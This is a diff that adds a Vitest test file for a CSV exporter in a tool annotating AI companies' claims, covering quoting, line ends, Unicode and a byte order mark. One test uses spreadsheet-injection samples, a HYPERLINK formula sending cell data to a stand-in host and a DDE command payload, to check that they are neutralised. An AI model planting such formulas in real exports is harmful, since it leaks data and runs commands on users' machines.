@@ -1,0 +1,106 @@
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import { CSV_COLUMNS, exportCsv } from '../../../lib/annotations/export-csv';
+import { bindingClaim, claimsById, makeMention, targetClaim } from './fixtures';
+
+type Row = Record<string, string>;
+
+function rows(csv: string): Row[] {
+  return parse(csv, { columns: true }) as Row[];
+}
+
+describe('exportCsv', () => {
+  it('writes a header and RFC 4180 records with CRLF line ends', () => {
+    const csv = exportCsv([makeMention()], claimsById);
+    const records = csv.split('\r\n');
+    expect(records[0]).toBe(CSV_COLUMNS.join(','));
+    expect(records).toHaveLength(3); // header, one row, and the empty string after the final CRLF
+    expect(records[2]).toBe('');
+    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
+  });
+
+  it('fills claim columns from the claim set', () => {
+    const [row] = rows(exportCsv([makeMention({ claimId: targetClaim.id })], claimsById));
+    expect(row).toMatchObject({
+      claim_id: targetClaim.id,
+      kind: 'announced-target',
+      status: 'in-force',
+      status_date: '2025-09-01',
+      actor: 'Acme AI',
+      wrong_match: 'false',
+      note: '',
+    });
+  });
+
+  it('marks a mention whose claim is unknown', () => {
+    const [row] = rows(exportCsv([makeMention({ claimId: 'gone' })], claimsById));
+    expect(row).toMatchObject({ claim_id: 'gone', kind: 'unknown', status: 'unknown', status_date: '', actor: '' });
+  });
+
+  it('round-trips tricky text through a CSV parser', () => {
+    const tricky = makeMention({
+      pageUrl: 'https://news.example/a?x=1,2&y="3"',
+      pageTitle: 'Commas, "quotes", and\nnew lines\r\nin a title — ünïcödé 🚀',
+      exact: 'He said "no pause", then, after a beat,\nadded: ok',
+      prefix: 'Emoji 👩🏽‍💻 and CJK 安全 before, ',
+      suffix: ' \r\n trailing "quote"', // CR mid-cell; a leading CR is covered below
+      start: 42,
+      note: { text: 'Line one,\nline "two"\n\nline 🙂 three', updatedAt: '2026-11-21T20:00:00.000Z' },
+      wrongMatch: { flagged: true, updatedAt: '2026-11-21T20:00:00.000Z' },
+    });
+    const plain = makeMention({ exact: 'plain text', start: 7 });
+    const parsed = rows(exportCsv([tricky, plain], claimsById));
+    expect(parsed).toHaveLength(2);
+    expect(parsed[0]).toEqual({
+      page_url: tricky.pageUrl,
+      page_title: tricky.pageTitle,
+      claim_id: bindingClaim.id,
+      kind: 'binding-commitment',
+      status: 'withdrawn',
+      status_date: '2026-02-24',
+      actor: 'Acme AI',
+      quote: tricky.anchor.exact,
+      prefix: tricky.anchor.prefix,
+      suffix: tricky.anchor.suffix,
+      start: '42',
+      end: String(42 + tricky.anchor.exact.length),
+      note: tricky.note!.text,
+      wrong_match: 'true',
+      first_seen: tricky.firstSeen,
+      last_seen: tricky.lastSeen,
+    });
+    expect(parsed[1]!.quote).toBe('plain text');
+    expect(parsed[1]!.start).toBe('7');
+  });
+
+  it('neutralises spreadsheet formulas in page-derived and user text', () => {
+    const hostile = makeMention({
+      pageTitle: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      exact: '+cmd|\' /C calc\'!A0',
+      prefix: '-1+1',
+      suffix: '@SUM(1,2)',
+      note: { text: '\tindented', updatedAt: '2026-11-21T20:00:00.000Z' },
+    });
+    const [row] = rows(exportCsv([hostile], claimsById));
+    expect(row!.page_title).toBe(`'${hostile.pageTitle}`);
+    expect(row!.quote).toBe(`'${hostile.anchor.exact}`);
+    expect(row!.prefix).toBe("'-1+1");
+    expect(row!.suffix).toBe("'@SUM(1,2)");
+    expect(row!.note).toBe("'\tindented");
+    // Cells that merely contain the characters later on are left alone, and numbers stay numbers.
+    expect(row!.page_url).toBe(hostile.pageUrl);
+    expect(row!.start).toBe(String(hostile.anchor.start));
+    for (const cell of Object.values(row!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('neutralises a cell that starts with a carriage return', () => {
+    const [row] = rows(exportCsv([makeMention({ pageTitle: '\r=1+1' })], claimsById));
+    expect(row!.page_title).toBe("'\r=1+1");
+  });
+
+  it('can start with a byte order mark for Excel', () => {
+    const csv = exportCsv([makeMention()], claimsById, { bom: true });
+    expect(csv.startsWith('\uFEFFpage_url,')).toBe(true);
+    expect(exportCsv([], claimsById).startsWith('page_url,')).toBe(true);
+  });
+});
